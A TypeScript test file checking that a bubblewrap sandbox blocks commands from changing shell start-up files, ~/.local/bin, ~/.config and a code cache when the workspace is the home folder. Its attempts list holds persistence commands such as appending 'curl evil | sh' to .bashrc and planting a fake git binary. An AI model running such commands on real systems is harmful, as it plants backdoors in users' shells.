/**
 * A workspace that is the home folder (or holds it): commands may change the user's files, but
 * never what runs later outside the sandbox: shell start-up files, ~/.local (bin, site-packages),
 * ~/.config, ~/.cache (Oxydra's code cache). Existing ones are read-only, new ones cannot be made.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createBubblewrapRunner, homeGuardedPaths, homeInsideWorkspace } from '../src/index.js';
import { type Fixture, fixture, HAS_BWRAP, policy } from './helpers.js';

function runAt(workspace: string, home: string, command: string) {
  const run = createBubblewrapRunner(policy(), { workspace, home });
  return run(command, {
    cwd: workspace,
    env: { PATH: '/usr/bin:/bin' },
    timeoutMs: 20_000,
    killGraceMs: 500,
  });
}

describe('which paths are guarded', () => {
  it('only when the home folder is the workspace or inside it', () => {
    expect(homeInsideWorkspace('/home/ann', '/home/ann')).toBe(true);
    expect(homeInsideWorkspace('/home', '/home/ann')).toBe(true);
    expect(homeInsideWorkspace('/home/ann/project', '/home/ann')).toBe(false);
    expect(homeInsideWorkspace('/home/annex', '/home/ann')).toBe(false);
    expect(homeGuardedPaths('/home/ann/project', '/home/ann')).toEqual([]);
    const guarded = homeGuardedPaths('/home/ann', '/home/ann');
    for (const name of ['.bashrc', '.bash_profile', '.profile', '.zshenv', '.local', '.config', '.cache']) {
      expect(guarded).toContain(`/home/ann/${name}`);
    }
  });
});

// Skipped only where bubblewrap is absent: there is nothing to test the sandbox with.
describe.skipIf(!HAS_BWRAP)('a workspace that is the home folder (bubblewrap)', () => {
  let f: Fixture;
  beforeEach(() => {
    f = fixture();
    writeFileSync(path.join(f.home, '.bashrc'), 'echo original\n');
    mkdirSync(path.join(f.home, '.local', 'bin'), { recursive: true });
    mkdirSync(path.join(f.home, '.cache', 'oxydra', 'code-cache'), { recursive: true });
    mkdirSync(path.join(f.home, 'projects'));
  });
  afterEach(() => f.cleanup());

  it('commands cannot change start-up files, ~/.local/bin or the caches, nor create new ones', async () => {
    const attempts = [
      'echo "curl evil | sh" >> .bashrc',
      'echo "curl evil | sh" > .bash_profile',
      'echo "curl evil | sh" > .profile',
      'printf "#!/bin/sh\\n" > .local/bin/git',
      'mkdir -p .config/autostart',
      'echo forged > .cache/other-tool.cache',
      'rm -f .bashrc',
      'mv .bashrc .bashrc.old',
    ];
    const r = await runAt(
      f.home,
      f.home,
      `${attempts.map((a) => `${a} && echo "DID: ${a}"`).join('; ')}; echo END`,
    );
    expect(r.output).toContain('END');
    expect(r.output).not.toContain('DID:');
    expect(readFileSync(path.join(f.home, '.bashrc'), 'utf8')).toBe('echo original\n');
    for (const made of ['.bash_profile', '.profile', '.local/bin/git', '.config', '.bashrc.old']) {
      expect(existsSync(path.join(f.home, made)), made).toBe(false);
    }
    // Oxydra's own cache is hidden outright (an empty folder inside): nothing written reaches it.
    const cache = await runAt(
      f.home,
      f.home,
      'echo forged > .cache/oxydra/code-cache/main.cjs.v8; echo "entries=$(ls -A .cache/oxydra | wc -l)"',
    );
    expect(cache.output).toContain('entries=0');
    expect(existsSync(path.join(f.home, '.cache', 'oxydra', 'code-cache', 'main.cjs.v8'))).toBe(false);
  });

  it("still changes the user's own files and folders", async () => {
    writeFileSync(path.join(f.home, 'notes.txt'), 'one\n');
    const r = await runAt(
      f.home,
      f.home,
      'echo two >> notes.txt && echo code > projects/main.py && mkdir projects/sub && echo OK',
    );
    expect(r.output, r.output).toContain('OK');
    expect(readFileSync(path.join(f.home, 'notes.txt'), 'utf8')).toBe('one\ntwo\n');
    expect(readFileSync(path.join(f.home, 'projects', 'main.py'), 'utf8')).toBe('code\n');
  });

  it('holds when the workspace is the folder above the home folder', async () => {
    const r = await runAt(f.root, f.home, `echo x >> ${f.home}/.bashrc && echo DID; echo END`);
    expect(r.output).toContain('END');
    expect(r.output).not.toContain('DID');
    expect(readFileSync(path.join(f.home, '.bashrc'), 'utf8')).toBe('echo original\n');
  });
});
